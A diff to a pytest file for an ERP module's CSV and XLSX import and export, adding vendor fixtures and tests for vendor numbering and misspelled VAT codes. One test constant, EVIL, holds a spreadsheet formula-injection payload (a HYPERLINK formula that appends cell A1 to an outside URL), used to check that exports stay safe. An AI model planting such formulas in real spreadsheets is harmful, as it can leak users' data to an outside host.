@@ -17,7 +17,7 @@ from erp.exchange import Answer, read_cards, write_cards
 from erp.exchange.cells import text
 from erp.exchange.sheets import read_sheet, write_sheet
 from erp.models import Company, Item, Party
-from tests.erp.makers import D, books, make_customer, make_item, make_stock
+from tests.erp.makers import D, books, make_customer, make_item, make_stock, make_vendor
 
 BOTH = pytest.mark.parametrize("ending", ["csv", "xlsx"])
 EVIL = '=HYPERLINK("https://example.org?"&A1,"Open")'
@@ -30,6 +30,8 @@ def given_cards(given_a_company: Company) -> Company:
     item.description, item.units, item.sales_uom = EVIL, {"BOX": "12", "KG": "0.25"}, "BOX"
     item.blocked = True
     item.save()
+    for no in ("V1", "V2"):
+        make_vendor(given_a_company, no, phone="+47 1", vat_registration_no="NO 1")
     make_customer(given_a_company, "C2", phone="+47 12 34 56 78", email="@b.example")
     Party.objects.filter(no="C2").update(name="Ærlig & Sønn; “AS”, \n Oslo", city="'=1+1")
     return given_a_company
@@ -53,7 +55,7 @@ def cards() -> list[Any]:
 
 
 @BOTH
-@pytest.mark.parametrize("what", ["items", "customers"])
+@pytest.mark.parametrize("what", ["items", "customers", "vendors"])
 def test_what_goes_out_comes_back_unchanged(
     given_cards: Company, tmp_path: Path, ending: str, what: str
 ) -> None:
@@ -186,7 +188,7 @@ def test_a_dry_run_says_what_the_real_one_says_and_writes_nothing(
 
     dry = read_cards(given_cards, "customers", path, dry_run=True)
     assert books(given_cards) == before
-    assert Party.objects.count() == 2
+    assert Party.objects.filter(kind="customer").count() == 2
     assert read_cards(given_cards, "customers", path) == dry == Answer(created=2)
     assert Party.objects.filter(name="Bo", city="Turku", no="C000002").exists()
 
@@ -237,3 +239,34 @@ def test_a_small_file_that_holds_too_much_is_refused(given_cards: Company, tmp_p
     assert path.stat().st_size < 2**20
     with pytest.raises(CardError, match="larger than 20 MB"):
         read_cards(given_cards, "items", path)
+
+
+def test_vendors_are_made_and_changed_beside_customers_of_the_same_number(
+    given_a_company: Company, tmp_path: Path
+) -> None:
+    make_vendor(given_a_company, "C1")
+    path = table(
+        tmp_path / "vendors.csv",
+        ["no", "name", "payment_method", "vat_bus"],
+        ["C1", "Mill", "", "DOMESTIC"],
+        ["", "Forge", "", "domestic"],
+    )
+
+    answer = read_cards(given_a_company, "vendors", path)
+
+    assert (answer.created, answer.changed, answer.mistakes) == (1, 1, [])
+    vendors = Party.objects.filter(kind="vendor").order_by("name")
+    assert [(one.no, one.name) for one in vendors] == [("V000001", "Forge"), ("C1", "Mill")]
+    assert Party.objects.get(kind="customer").name == "Ada Lovelace"
+
+
+def test_a_vat_group_without_any_rate_is_a_mistake_of_its_cell(
+    given_a_company: Company, tmp_path: Path
+) -> None:
+    parties = table(tmp_path / "c.csv", ["no", "name", "vat_bus"], ["C7", "Mill", "DOMESTCI"])
+    items = table(tmp_path / "i.csv", ["no", "vat_prod"], ["A", "STANDRAD"])
+
+    for what, path, column in (("vendors", parties, "vat_bus"), ("items", items, "vat_prod")):
+        (mistake,) = read_cards(given_a_company, what, path).mistakes
+        assert (mistake.row, mistake.column) == (2, column)
+    assert not Party.objects.filter(no="C7").exists()
